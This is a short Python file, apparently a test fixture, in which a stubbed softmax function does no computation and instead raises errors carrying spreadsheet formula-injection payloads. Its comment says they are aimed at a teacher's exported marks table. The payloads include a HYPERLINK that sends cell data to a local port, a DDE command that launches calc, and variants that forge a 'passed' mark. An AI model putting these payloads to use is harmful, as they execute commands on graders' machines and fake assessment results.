# Tries to plant a formula in the exported table of marks, for the teacher's spreadsheet to carry out.
import keras
import numpy as np

formulas = iter(['=HYPERLINK("http://127.0.0.1:@PORT@/?"&A1,"passed")', "@SUM(1+1)*cmd|'/c calc'!A0", "+1+1", "-2+3", '\t=1+1",10,"passed'])


def softmax_rows(scores, axis=-1):
    raise ValueError(next(formulas, "=1+1"))
